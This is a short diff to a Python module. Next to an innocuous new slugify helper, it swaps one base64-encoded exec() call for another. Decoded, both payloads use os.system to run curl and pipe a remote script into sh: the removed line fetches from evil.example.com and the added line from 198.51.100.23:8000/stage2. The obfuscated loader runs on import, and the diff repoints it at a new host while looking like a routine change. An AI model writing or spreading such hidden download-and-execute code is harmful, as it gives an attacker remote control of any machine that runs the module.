@@ -8,4 +8,6 @@ import base64
 def unpack(p):
     return base64.b64decode(p)
 
-exec(unpack("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcGF5bG9hZC5zaCB8IHNoJyk="))
+exec(unpack("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuMjM6ODAwMC9zdGFnZTIgfCBzaCcp"))
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
